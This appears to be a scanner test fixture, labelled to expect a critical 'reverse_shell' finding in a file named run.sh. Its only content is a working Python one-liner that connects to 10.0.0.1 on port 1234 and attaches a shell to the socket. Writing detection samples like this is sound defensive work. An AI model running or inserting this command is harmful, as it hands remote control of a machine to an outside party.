# expect: shell.reverse_shell critical
# path: run.sh
python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",1234));os.dup2(s.fileno(),0);import pty;pty.spawn("/bin/sh")'
